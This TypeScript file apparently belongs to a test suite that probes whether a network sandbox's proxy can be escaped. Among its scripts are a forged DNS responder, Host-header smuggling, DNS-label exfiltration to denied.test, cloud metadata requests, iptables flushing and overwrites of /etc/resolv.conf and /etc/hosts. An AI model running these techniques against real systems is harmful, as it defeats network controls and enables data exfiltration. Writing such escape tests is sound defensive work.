import type { Technique } from './technique.ts'

// Past the proxy port: by the resolver of the door, and by the addresses that it gives. Where no door is there is neither.

const NO_DOOR = { left: 'only a door has a resolver' } as const
const EVERYWHERE = { advisory: NO_DOOR, open: NO_DOOR } as const
/** A door with a careless policy lets it out: so it would be seen if a careful one did. */
const CARELESS = { ...EVERYWHERE, careless: 'out' } as const

type Place = typeof EVERYWHERE | typeof CARELESS

function sh(name: string, script: string, place: Place = EVERYWHERE): Technique {
  return { name, by: 'sh', script, ...place }
}

function python(name: string, script: string, place: Place = EVERYWHERE): Technique {
  return { name, by: 'python3', script, ...place }
}

function node(name: string, script: string, place: Place = EVERYWHERE): Technique {
  return { name, by: 'node', script, ...place }
}

/** Everything without a proxy: what an ignorant program does. */
const CURL = "env -i PATH=$PATH curl -sk --max-time 3 --noproxy '*'"

/** Answers every question that comes to a UDP port with one address. */
const FORGER = String.raw`
import os, socket, subprocess, threading
def forge(address, where=('127.64.0.1', 53)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        try: s.setsockopt(socket.SOL_SOCKET, option, 1)
        except OSError: pass
    try: s.bind(where)
    except OSError as error:
        print(error)
        return
    def serve():
        while True:
            q, peer = s.recvfrom(4096)
            end = 12
            while q[end]: end += q[end] + 1
            record = b'\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04' + socket.inet_aton(address)
            s.sendto(q[:2] + b'\x81\x80\0\x01\0\x01\0\0\0\0' + q[12:end + 5] + record, peer)
    threading.Thread(target=serve, daemon=True).start()
def curl(*words):
    run = subprocess.run(['curl', '-sk', '--max-time', '2', '--noproxy', '*', *words],
        env={'PATH': os.environ['PATH']}, capture_output=True)
    print(run.stdout.decode('latin1'), run.stderr.decode('latin1'))
`

/** The address that stands for a name. */
const LOOK_UP = String.raw`
const { lookup } = require('node:dns')
const inside = (name, use) => lookup(name, { family: 4 }, (error, address) => error ? say(error.code) : use(address))
`

/** They get into each other's way, and into that of all others: at most one at a time, when all others are done. */
export const DISTURBING: readonly Technique[] = [
  node(
    'many synthetic addresses, in order and at random',
    String.raw`
const net = require('node:net')
const reach = (word, port) => new Promise((resolve) => {
  const host = [24, 16, 8, 0].map((bits) => (word >>> bits) & 255).join('.')
  const socket = net.connect({ host, port })
  socket.on('connect', () => socket.write('GET /leak HTTP/1.1\r\nHost: denied.test\r\n\r\n'))
  socket.on('data', (data) => say(data))
  socket.on('error', () => undefined)
  socket.on('close', resolve)
  socket.setTimeout(300, () => socket.destroy())
})
const words = [...Array(600).keys()].map((i) => 0x7f400000 + i)
for (let i = 0; i < 300; i++) words.push(0x7f400000 + Math.floor(Math.random() * 2 ** 22))
const work = async () => { for (let word; (word = words.pop()) !== undefined; ) {
  await reach(word, 80)
  await reach(word, 443)
} }
Promise.all([...Array(16)].map(work))`,
    CARELESS,
  ),
  node(
    'messages for the resolver that are none',
    String.raw`
const { randomBytes } = require('node:crypto')
const socket = require('node:dgram').createSocket('udp4')
socket.on('message', (message) => message.length > 512 && say('OUT of bounds'))
const good = question('denied.test')
for (let i = 0; i < 500; i++) {
  const bytes = i % 2 ? randomBytes(i) : Buffer.concat([good.subarray(0, i % good.length), randomBytes(i % 9)])
  if (bytes.length > 0) socket.send(bytes, 53, '127.64.0.1')
}
setTimeout(() => {
  socket.close()
  require('node:dns').lookup('allowed.test', { family: 4 }, (error) => say(error ? 'OUT of order' : 'it answers'))
}, 1500)`,
  ),
  python(
    'forged answers on the port of the resolver: an address outside',
    `${FORGER}
forge(os.environ['OUTSIDE'])
for _ in range(3): curl('http://denied.test/leak')`,
  ),
  python(
    'forged answers on the port of the resolver: the address of an allowed name',
    `${FORGER}
address = socket.gethostbyname('allowed.test')
forge(address)
for _ in range(3):
    curl('http://denied.test/leak')
    curl('https://denied.test/leak')`,
    CARELESS,
  ),
  python(
    'forged answers: this machine, and what a cloud tells its machines',
    `${FORGER}
for address in (os.environ['HOST'], os.environ['BRIDGE'], os.environ['METADATA']):
    forge(address, ('127.0.0.53', 53))
    curl('--resolve', 'denied.test:80:' + address, 'http://denied.test/leak')`,
  ),
]

export const UNAWARE: readonly Technique[] = [
  ...[
    'http://denied.test/leak',
    'https://denied.test/leak',
    'http://sub.allowed.test/leak',
    'http://stolen-data.denied.test/leak',
    'http://metadata.google.internal/',
    'http://loopback.inside.test/leak',
    'http://bridge.inside.test/leak',
    'http://private.inside.test/leak',
    'http://metadata.inside.test/leak',
  ].map((url) =>
    sh(
      `past the proxy port: ${url}`,
      `${CURL} ${url}`,
      /denied|sub/.test(url) ? CARELESS : EVERYWHERE,
    ),
  ),
  ...['http', 'https'].map((scheme) =>
    sh(
      `a denied name at the address of an allowed one, by ${scheme}`,
      `
port=$([ ${scheme} = http ] && echo 80 || echo 443)
${CURL} --connect-to denied.test:$port:allowed.test:$port ${scheme}://denied.test/leak`,
      scheme === 'https' ? CARELESS : EVERYWHERE,
    ),
  ),
  sh(
    'HTTP/2 in clear text to an allowed name',
    `${CURL} --http2-prior-knowledge -H 'Host: denied.test' http://allowed.test/leak`,
  ),
  node(
    'another Host field behind an allowed one, without a proxy',
    String.raw`${LOOK_UP}
inside('allowed.test', (host) => talk({ host, port: 80 },
  'GET /allowed HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /leak HTTP/1.1\r\nHost: denied.test\r\n\r\n'))`,
  ),
  ...[22, 25, 53, 8080, 7000].map((port) =>
    node(
      `the address of an allowed name at port ${port}`,
      `${LOOK_UP}
inside('allowed.test', (host) => talk({ host, port: ${port} }, 'hello'))`,
      CARELESS,
    ),
  ),
  node(
    'datagrams to the address of an allowed name',
    `${LOOK_UP}
inside('allowed.test', (host) => { for (const port of [53, 443, 7000]) datagram(port, host, 'hello') })`,
  ),
  node(
    'the sockets of the door by their own ports',
    String.raw`${LOOK_UP}
const { readFileSync } = require('node:fs')
const ports = new Set(['tcp', 'tcp6'].flatMap((name) => readFileSync('/proc/net/' + name, 'utf8').split('\n')
  .filter((line) => / 0A /.test(line)).map((line) => parseInt(line.trim().split(/\s+/)[1].split(':')[1], 16))))
const knock = (host) => { for (const port of ports)
  talk({ host, port }, 'GET /leak HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n') }
for (const host of ['127.0.0.1', '127.64.0.1', '127.64.0.2', '127.99.0.1']) knock(host)
for (const name of ['allowed.test', 'denied.test']) inside(name, knock)`,
    CARELESS,
  ),
  node(
    'a name that is given up while its address is used',
    String.raw`${LOOK_UP}
inside('private.inside.test', (host) => {
  talk({ host, port: 80 }, 'GET /leak HTTP/1.1\r\nHost: private.inside.test\r\n\r\n')
  inside('allowed.test', () => talk({ host, port: 80 }, 'GET /leak HTTP/1.1\r\nHost: allowed.test\r\n\r\n'))
})`,
  ),
  node(
    'data in names of 253 octets',
    String.raw`
const { lookup } = require('node:dns')
const label = 'x'.repeat(63)
for (let i = 0; i < 50; i++) {
  const name = [label, label, label, 'stolen' + i].join('.').slice(0, 241) + '.denied.test'
  lookup(name, (error, address) => say(error ? error.code : 'OUT ' + address))
}`,
    CARELESS,
  ),
  sh(
    'rules and addresses of the namespace',
    `
for words in 'iptables -t nat -F' 'iptables -t nat -I OUTPUT -j ACCEPT' 'ip address add 10.9.9.9/32 dev lo' \
  'ip route add local 0.0.0.0/0 dev lo' 'ip link add d0 type dummy'
do $words && echo "OUT: $words"; done; true`,
  ),
  sh('a resolver of its own choice', 'echo nameserver $NAMESERVER > /etc/resolv.conf && echo OUT'),
  sh('names of its own choice', 'echo $OUTSIDE denied.test >> /etc/hosts && echo OUT'),
]
